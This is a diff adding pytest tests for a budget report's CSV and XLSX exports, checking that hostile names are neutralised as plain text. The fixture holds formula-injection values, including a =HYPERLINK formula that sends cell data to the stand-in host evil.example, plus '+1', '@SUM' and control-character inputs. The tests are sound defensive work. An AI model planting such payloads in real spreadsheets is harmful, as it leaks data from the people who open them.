@@ -222,3 +222,54 @@ def test_csv_has_the_header_rows_one_row_per_line_and_totals(session, planned):
                        "1000000.00", "12345.67", "25000.00", "962654.33", "2.50"]
     assert rows[-1][0] == "合计 / Total" and rows[-1][4:] == [
         "1035000.00", "12395.67", "26003.34", "996600.99", "2.51"]
+
+
+@pytest.fixture()
+def hostile(session):
+    """A budget whose names were typed to break the export or attack whoever opens it."""
+    planned = build_budget(session, name='=HYPERLINK("http://evil.example/?"&A1,"click")')
+    planned["budget"].name = "ctl\u0001name"
+    lines = planned["lines"]
+    lines["L01"].code, lines["L01"].name, lines["L01"].project = "+1", "@SUM(A1:A9)", "-2+3"
+    lines["L02"].name = "\tTAB\x1b"
+    session.flush()
+    return planned
+
+
+INERT = ["ctl\ufffdname", '\'=HYPERLINK("http://evil.example/?"&A1,"click")', "'+1",
+         "'@SUM(A1:A9)", "'-2+3", "'\tTAB\ufffd"]
+
+
+def test_an_xlsx_of_hostile_names_opens_with_them_as_neutral_text(session, hostile):
+    report = reports.budget_report(session, hostile["budget"], "line")
+    sheet = load_workbook(io.BytesIO(reports.report_xlsx(report))).active
+    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row
+             if isinstance(cell.value, str)}
+    assert all(cells[text].data_type == "s" for text in INERT)
+    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
+    numbers = [cell for row in sheet.iter_rows() if row[0].value == "'+1" for cell in row[4:9]]
+    assert [Decimal(str(cell.value)).quantize(Decimal("0.01")) for cell in numbers] == [
+        Decimal("1000000.00"), Decimal("12345.67"), Decimal("25000.00"), Decimal("962654.33"),
+        Decimal("2.50")]
+    assert all(cell.data_type == "n" for cell in numbers)
+
+
+def test_a_csv_of_hostile_names_holds_them_as_neutral_text(session, hostile):
+    report = reports.budget_report(session, hostile["budget"], "line")
+    rows = list(csv.reader(io.StringIO(reports.report_csv(report).decode("utf-8-sig"),
+                                       newline="")))
+    assert rows[0][1] == INERT[0] and rows[1][1] == INERT[1]
+    assert rows[8] == ["'+1", "'@SUM(A1:A9)", "数据采购 Data purchase", "'-2+3",
+                       "1000000.00", "12345.67", "25000.00", "962654.33", "2.50"]
+    assert any(row[1] == INERT[5] for row in rows if len(row) > 1)
+
+
+def test_a_negative_remaining_amount_stays_a_number(session, planned):
+    planned["lines"]["L03"].spent_minor = 600_000  # beyond its 5,000.00: -1,000.00 remains
+    session.flush()
+    report = reports.budget_report(session, planned["budget"], "line")
+    rows = list(csv.reader(io.StringIO(reports.report_csv(report).decode("utf-8-sig"))))
+    assert next(row for row in rows if row and row[0] == "L03")[7] == "-1000.00"
+    sheet = load_workbook(io.BytesIO(reports.report_xlsx(report))).active
+    remaining = next(row for row in sheet.iter_rows() if row[0].value == "L03")[7]
+    assert remaining.value == -1000 and remaining.data_type == "n"
